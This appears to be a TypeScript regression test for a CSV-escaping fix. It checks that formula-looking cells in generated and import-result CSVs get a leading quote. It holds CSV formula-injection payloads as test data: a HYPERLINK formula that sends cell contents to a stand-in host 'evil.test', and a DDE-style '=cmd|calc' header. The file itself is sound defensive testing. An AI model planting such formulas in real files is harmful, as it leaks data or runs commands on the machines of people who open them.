// One CSV writer (src/core/csv-safe.ts) for every CSV Signet produces. Issue 10, finding 10: an import's
// results.csv echoed the uploaded cells raw, so a formula in the file became a live formula in the
// spreadsheet that opened the results; exports already escaped theirs.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { csvText, neutralizeFormula } from '../src/core/csv-safe.ts';
import { importCsv, importSetup } from './imports-helper.ts';

const FORMULAS = [
  '=1+2',
  '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
];

test('the writer puts a quote before every cell a spreadsheet would read as a formula, and only those', () => {
  for (const f of FORMULAS) assert.equal(neutralizeFormula(f), `'${f}`);
  for (const plain of ['Ada', 'a=1', ' x', "'quoted", '', '42'])
    assert.equal(neutralizeFormula(plain), plain);
  assert.equal(neutralizeFormula(-5), "'-5");
  assert.equal(neutralizeFormula(null), '');
  assert.equal(csvText([['=1+2', 'a,b', 'say "hi"']]), `'=1+2,"a,b","say ""hi"""\n`);
});

test("an import's results CSV escapes the uploaded header and cells, on /api and /management", async (t) => {
  const { app, api, tenant } = await importSetup(t);
  const csv =
    'FirstName,LastName,UserEmail,PermissionSet,UserTitle,=cmd|calc\n' +
    FORMULAS.map(
      (f, i) =>
        `Ada,"${f.replaceAll('"', '""')}",f${i}-${Date.now()}@example.test,DS Sender,"${f.replaceAll('"', '""')}",x`,
    ).join('\n') +
    '\n';
  const imp = await importCsv(api, `account_id=${tenant.accountId}&operation=add`, csv);
  assert.equal(imp.status, 'completed', JSON.stringify(imp));

  const native = await api('GET', `/api/imports/${imp.id}/results.csv`);
  const management = await app.inject({
    method: 'GET',
    url: `/management/v2/organizations/${tenant.organizationId}/imports/bulk_users/${imp.id}/results_csv`,
    headers: { authorization: `Bearer ${tenant.key}` },
  });
  for (const res of [native, management]) {
    assert.equal(res.statusCode, 200, res.body);
    const rows = parse(res.body, { bom: true }) as string[][];
    assert.deepEqual(rows[0], [
      'FirstName',
      'LastName',
      'UserEmail',
      'PermissionSet',
      'UserTitle',
      "'=cmd|calc",
      'ProcessingResults',
    ]);
    assert.equal(rows.length, FORMULAS.length + 1);
    FORMULAS.forEach((f, i) => {
      const row = rows[i + 1]!;
      assert.equal(row[1], `'${f}`, `row ${i + 1} LastName`);
      assert.equal(row[4], `'${f}`, `row ${i + 1} UserTitle`);
      assert.equal(row[0], 'Ada');
    });
  }
});
